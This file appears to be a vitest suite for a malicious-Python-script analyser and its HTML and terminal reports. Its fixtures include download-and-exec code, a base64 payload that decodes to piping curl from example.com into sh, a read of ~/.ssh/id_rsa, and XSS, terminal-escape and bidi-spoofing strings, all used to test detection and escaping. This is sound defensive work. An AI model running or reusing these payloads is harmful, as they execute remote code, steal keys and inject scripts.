import { describe, expect, test } from "vitest";
import { reportHtml } from "../../src/inspect/html.ts";
import { type Report, reportOf } from "../../src/inspect/report.ts";
import { reportText } from "../../src/inspect/text.ts";
import { dossierOf, layerOf, observed } from "./dossiers.ts";

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

const SCRIPT = `import os, urllib.request
data = urllib.request.urlopen("http://example.com/a").read()
os.system("crontab -l")
exec(data)
`;

const DOSSIER = dossierOf({
  observations: [
    observed(0, {
      action: "urllib.request.urlopen",
      kind: "network",
      detail: { url: "http://example.com/a", b: 1, a: 2 },
      line: 2,
    }),
    observed(1, { action: "os.system", detail: { command: "id" }, layer: 1, line: 2 }),
  ],
  layers: [layerOf(0, 0, "script", SCRIPT, true), layerOf(1, 0, "exec", "import os\nos.system('id')\n", true)],
  files: [{ path: "/tmp/b", change: "made", bytes: 3, sha256: "ab".repeat(32) }],
  end: { kind: "exception", type: "NameError", message: "name 'x' isn't defined", line: 3 },
  fuel: 1234,
});

describe("the report", () => {
  test("says what was found, and where", async () => {
    const report = await reportOf(bytes(SCRIPT), "a.py", DOSSIER);
    expect(report).toMatchObject({
      version: 1,
      verdict: "dangerous",
      script: { name: "a.py", lines: 4, python2: false, imports: ["os", "urllib.request"] },
      run: { fuel: 1234, dropped: 0 },
    });
    expect(report.findings[0]).toMatchObject({ id: "download-execute", severity: "high", technique: { id: "T1105" } });
    expect(report.findings[0]?.evidence).toContainEqual({ observation: undefined, layer: 0, line: 4 });
    expect(report.layers.map(({ number, executed }) => [number, executed])).toEqual([
      [0, true],
      [1, true],
    ]);
    expect(report.indicators.map(({ kind, value }) => `${kind} ${value}`)).toEqual([
      "url http://example.com/a",
      "host example.com",
      "path /tmp/b",
      `hash ${"ab".repeat(32)}`,
    ]);
    expect(report.unexecuted.reasons).toEqual(["the run ended early in line 3: NameError: name 'x' isn't defined"]);
    expect(report.unexecuted.calls.map(({ action }) => action)).toEqual(["os.system", "exec"]);
  });

  test("is the same, byte for byte, for the same script", async () => {
    const [one, two] = await Promise.all([1, 2].map(() => reportOf(bytes(SCRIPT), "a.py", structuredClone(DOSSIER))));
    expect(JSON.stringify(one)).toBe(JSON.stringify(two));
    expect(Object.keys(one?.timeline[0]?.detail ?? {})).toEqual(["a", "b", "url"]);
  });

  test("that nothing was found is not called safe", async () => {
    const report = await reportOf(bytes("print(6 * 7)\n"), "a.py", dossierOf());
    expect(report.verdict).toBe("nothing");
    expect(report.findings).toEqual([]);
    expect(report.summary[0]).toContain("does not say that the script is safe");
  });

  test("what is no Python at all is read as far as it goes", async () => {
    const report = await reportOf(
      Uint8Array.from({ length: 5000 }, (_, at) => (at * 7919) % 256),
      "a.bin",
      dossierOf(),
    );
    expect(report.unexecuted.reasons.join()).toContain("no Python");
  });

  test("layers that are written only are found by reading", async () => {
    const source =
      "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))\nimport base64\nexec(base64.b64decode('b3Muc3lzdGVtKCdjdXJsIGh0dHA6Ly9leGFtcGxlLmNvbS94IHwgc2gnKQ=='))";
    const report = await reportOf(bytes(source), "a.py", dossierOf());
    expect(report.layers.slice(1).map(({ text, read, executed }) => [text, read, executed])).toEqual([
      ["import os", true, false],
      ["os.system('curl http://example.com/x | sh')", true, false],
    ]);
    expect(report.findings.map(({ id }) => id)).toContain("download-execute");
  });
});

/** What would run, hide or lie, if it were shown as it is. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "</pre></details><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' style='background:url(http://example.com/)",
  "</style><base href=//example.com>",
  "<!--",
  "]]>",
  "&lt;script&gt;",
  "javascript:alert(1)",
  "\u001b]0;title\u0007\u001b[2J\u001b[1A",
  "\u202ecod.exe\u2066",
  "one\r\n  high    All is well",
  "\u2028line\u2029",
  "\ud800",
  "\u0000\u009b31m",
  "x".repeat(100_000),
];

async function hostileReport(text: string): Promise<Report> {
  const source = `import os\nos.system(${JSON.stringify(text)})\nopen(${JSON.stringify(`~/.ssh/id_rsa${text}`)})\n`;
  return reportOf(
    bytes(source),
    text.slice(0, 200),
    dossierOf({
      observations: [
        observed(0, { action: text, detail: { [text]: text, list: [text, { deep: text }] }, answer: text }),
      ],
      layers: [layerOf(1, 0, text, text, true)],
      files: [{ path: text, change: "made", bytes: 1, sha256: text }],
      end: { kind: "exception", type: text, message: text, line: 1 },
      stdout: text,
      stderr: text,
    }),
  );
}

describe.each(HOSTILE.map((text) => ({ text, name: JSON.stringify(text.slice(0, 40)) })))(
  "with $name everywhere",
  ({ text }) => {
    test("the page has our tags alone", async () => {
      const html = reportHtml(await hostileReport(text));
      const tags = new Set(Array.from(html.matchAll(/<[^>]*>/g), ([tag]) => tag));
      const plain = reportHtml(await hostileReport("plain"));
      const ours = new Set(Array.from(plain.matchAll(/<[^>]*>/g), ([tag]) => tag));
      expect([...tags].filter((tag) => !ours.has(tag))).toEqual([]);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: controls are what must not be there
      expect(html).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      expect(html.isWellFormed()).toBe(true);
    });

    test("the terminal gets lines of ours alone", async () => {
      const report = await hostileReport(text);
      const shown = reportText(report);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: controls are what must not be there
      expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/);
      expect(shown.split("\n").every((line) => line.length < 700)).toBe(true);
      const plain = reportText(await hostileReport("plain"));
      const heads = (each: string): readonly string[] =>
        each.split("\n").filter((line) => /^[A-Z]/.test(line) && line === line.toUpperCase());
      expect(heads(shown)).toEqual(heads(plain));
    });

    test("as JSON it comes back", async () => {
      const report = await hostileReport(text);
      expect(JSON.stringify(JSON.parse(JSON.stringify(report)))).toBe(JSON.stringify(report));
    });
  },
);

test("the page forbids scripts and loads, and has none", async () => {
  const html = reportHtml(await reportOf(bytes(SCRIPT), "a.py", DOSSIER));
  expect(html).toContain(
    `content="default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"`,
  );
  expect(html).not.toMatch(/<(?:script|link|img|iframe|a|form|object|base)\b|\son\w+=|\bsrc=|\bhref=/i);
  expect(html).toContain("prefers-color-scheme: dark");
  expect(html).toContain("<details");
});
